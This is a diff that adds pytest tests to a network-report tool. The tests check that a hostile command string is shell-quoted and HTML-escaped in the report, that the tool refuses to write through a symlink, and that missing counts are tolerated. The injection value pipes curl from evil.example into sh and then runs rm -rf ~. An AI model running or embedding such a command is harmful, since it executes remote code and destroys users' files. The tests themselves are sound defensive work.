@@ -121,3 +121,40 @@ def test_documents(
     file = tmp_path / "result.json"
     file.write_text(json.dumps({**msgspec.to_builtins(whole), **changes}))
     assert problem in told(tmp_path, capsys, file)
+
+
+def test_a_command_of_a_stranger(run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Whoever copies the command from a page runs that command, and nothing after it."""
+    evil = "--scheme ecmp; curl evil.example | sh #\n rm -rf ~"
+    shutil.copytree(run, tmp_path / "run")
+    file = tmp_path / "run" / "summary.json"
+    file.write_text(json.dumps(json.loads(file.read_text()) | {"words": evil}))
+    whole = blank(metrics=("fct_mean",), cells=(CELL,), command=f"tailrace paper x {evil}")
+    (tmp_path / "result.json").write_bytes(msgspec.json.encode(whole))
+    assert main(["report", str(tmp_path)]) == 0
+    page = (tmp_path / "report.html").read_text()
+    assert "tailrace run" not in page
+    assert "<code>tailrace paper x --scheme &#39;ecmp;&#39; curl evil.example &#39;|&#39; sh" in page
+    assert capsys.readouterr().err == ""
+
+
+def test_a_report_goes_through_no_link(run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Who made the folder would choose which file of its reader is overwritten; one that is named may be a link."""
+    shutil.copytree(run, tmp_path / "run")
+    (tmp_path / "mine").write_text("mine")
+    (tmp_path / "run" / "report.html").symlink_to(tmp_path / "mine")
+    assert main(["report", str(tmp_path / "run")]) == 2
+    assert "report.html is a link; expected a file, or --out FILE" in capsys.readouterr().err
+    assert (tmp_path / "mine").read_text() == "mine"
+    assert main(["report", str(tmp_path / "run"), "--out", str(tmp_path / "run" / "report.html")]) == 0
+    assert (tmp_path / "mine").read_text().startswith("<!DOCTYPE html>")
+
+
+def test_counts_that_are_not_there(run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """What a summary does not tell is not shown."""
+    shutil.copytree(run, tmp_path / "run")
+    file = tmp_path / "run" / "summary.json"
+    less = {"pfc": {}, "rlb": {"x": 1}, "hf2t": {"x": 1}, "flowlets": {"x": 1}}
+    file.write_text(json.dumps(json.loads(file.read_text()) | less))
+    assert main(["report", str(tmp_path / "run")]) == 0
+    assert capsys.readouterr().err == ""
